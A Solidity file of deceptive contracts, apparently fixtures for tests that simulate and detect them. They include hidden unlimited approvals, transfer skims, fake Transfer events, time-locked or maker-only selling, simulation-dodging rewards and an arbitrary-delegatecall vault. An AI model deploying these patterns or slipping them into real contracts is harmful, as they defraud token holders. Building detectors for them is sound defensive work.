// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

// Contracts that do something else than they show, each by one trick; the tests simulate them.

/// An honest token that anybody may mint.
contract Token {
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Lets whoever claims be robbed later, by a spender that no argument, event or constant names.
contract HiddenApproval is Token {
    uint256 private immutable half;

    constructor(address spender) {
        half = uint256(uint160(spender)) ^ type(uint256).max;
    }

    function claim() external {
        balanceOf[msg.sender] += 1;
        allowance[msg.sender][address(uint160(half ^ type(uint256).max))] = type(uint256).max;
    }
}

/// Runs whatever code its caller names, as its own.
contract Vault {
    address public owner = msg.sender;

    function execute(address code, bytes calldata data) external {
        (bool done, ) = code.delegatecall(data);
        require(done);
    }
}

contract Grab {
    address private owner;

    function take() external {
        owner = msg.sender;
    }
}

/// Runs fixed code as its own: a proxy as there are many.
contract Proxy {
    constructor(address code) {
        assembly { sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, code) }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let code := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            let done := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
        }
    }
}

/// Changes who governs it without an event, in a slot that no standard names.
contract Quiet {
    mapping(uint256 => address) private slots;

    function owner() external view returns (address) {
        return slots[7];
    }

    function work() external {
        slots[7] = msg.sender;
    }
}

/// Sells itself for ether; what it does when it is passed on is its children's.
abstract contract Bait is Token {
    uint256 internal immutable born = block.number;

    function buy() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Transfer(address(0), msg.sender, msg.value);
    }
}

contract KeepsAPart is Bait {
    function _move(address from, address to, uint256 value) internal override {
        balanceOf[from] -= value;
        balanceOf[to] += value - value / 50;
        emit Transfer(from, to, value);
    }
}

/// Says that it was passed on, and moves nothing.
contract LiesAboutIt is Bait {
    function _move(address from, address to, uint256 value) internal override {
        emit Transfer(from, to, value);
    }
}

/// Lets its first owners pass it on only while they watch.
contract ClosesInBlocks is Bait {
    function _move(address from, address to, uint256 value) internal override {
        require(block.number < born + 10, "closed");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract ClosesInTime is Bait {
    uint256 private immutable since = block.timestamp;

    function _move(address from, address to, uint256 value) internal override {
        require(block.timestamp < since + 30 minutes, "closed");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract Blacklist is Bait {
    mapping(address => bool) private blocked;

    function _move(address from, address to, uint256 value) internal override {
        require(!blocked[from] && from == address(0), "blocked");
        balanceOf[to] += value;
    }
}

/// Trades in a pool, and lets nobody but its maker sell there.
contract OneWay is Token {
    address private immutable maker = tx.origin;
    mapping(address => bool) private pools;

    function closed(address pool) external {
        pools[pool] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!pools[to] || tx.origin == maker, "sold out");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Gives what it promises only in the blocks in which it is tried.
contract OneBlock is Token {
    uint256 private immutable chosen;

    constructor(uint256 number) {
        chosen = number;
    }

    function claim() external {
        balanceOf[msg.sender] += block.number == chosen ? 1000 : 1;
    }
}

/// Gives only where nobody is paid for the block, as on a fork that forgot to say who makes it.
contract Unpaid is Token {
    function claim() external {
        balanceOf[msg.sender] += block.coinbase == address(0) || tx.gasprice == block.basefee ? 1000 : 1;
    }
}

/// Is generous to whoever tips well: as much as may be paid, and more than will be.
contract Tipped is Token {
    function claim() external {
        balanceOf[msg.sender] += tx.gasprice - block.basefee > 700 ? 1000 : 1;
    }
}

/// Takes from an account that once trusted it, when another one calls.
contract Collector {
    function work(address token, address from, uint256 value) external {
        Token(token).transferFrom(from, address(this), value);
    }
}

/// Calls itself in each of the ways in which honest contracts do, and is paid in ether while it works.
contract Busy {
    uint256 public done;

    receive() external payable {}

    function work() external {
        (bool first, ) = address(this).delegatecall(abi.encodeCall(this.step, ()));
        this.step();
        Payer payer = new Payer();
        require(first);
        payer.pay{value: address(this).balance}(payable(address(this)));
    }

    function step() external {
        done += 1;
    }
}

contract Payer {
    function pay(address payable to) external payable {
        (bool paid, ) = to.call{value: msg.value}("");
        require(paid);
    }
}

/// Sells a token that calls back before the sale has been written down.
contract Shop {
    mapping(address => uint256) public bought;

    function buy(address token) external payable {
        Hooked(token).give(msg.sender, msg.value);
        bought[msg.sender] += msg.value;
    }

    function refund(address) external {
        bought[address(0)] += 1;
    }
}

contract Hooked is Token {
    function give(address to, uint256 value) external {
        Shop(msg.sender).refund(to);
        balanceOf[to] += value;
    }
}

contract Ends {
    function work() external {
        selfdestruct(payable(msg.sender));
    }
}
